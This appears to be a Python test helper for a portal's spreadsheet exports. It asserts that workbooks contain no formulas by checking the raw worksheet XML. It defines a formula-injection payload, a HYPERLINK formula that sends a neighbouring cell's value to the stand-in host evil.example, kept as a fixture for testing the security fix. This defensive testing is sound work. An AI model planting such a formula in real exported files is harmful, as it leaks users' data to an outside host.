"""Checks shared by every export's tests: a workbook the portal writes holds no formula."""

import re
import zipfile
from io import BytesIO

from openpyxl import load_workbook

# The payload of the security issue: a live link that sends the neighbouring cell away.
PAYLOAD = '=HYPERLINK("http://evil.example/?p="&D3,"Xem giải")'


def assert_no_formulas(content):
    """No cell of any sheet is a formula, in the file's own XML (what Excel reads)."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"{name} holds a formula"
    return load_workbook(BytesIO(content))


def text_cells(book, text):
    """The cells, in every sheet, whose value is exactly `text`."""
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == text]
